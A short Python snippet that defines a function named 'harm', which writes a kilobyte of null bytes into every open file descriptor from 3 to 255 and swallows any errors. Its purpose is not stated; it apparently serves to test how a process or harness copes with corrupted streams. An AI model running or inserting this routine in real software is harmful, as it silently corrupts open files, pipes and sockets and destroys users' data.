import os


def everywhere(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass


def harm():
    everywhere(b'\x00' * 1000 + b'\n')
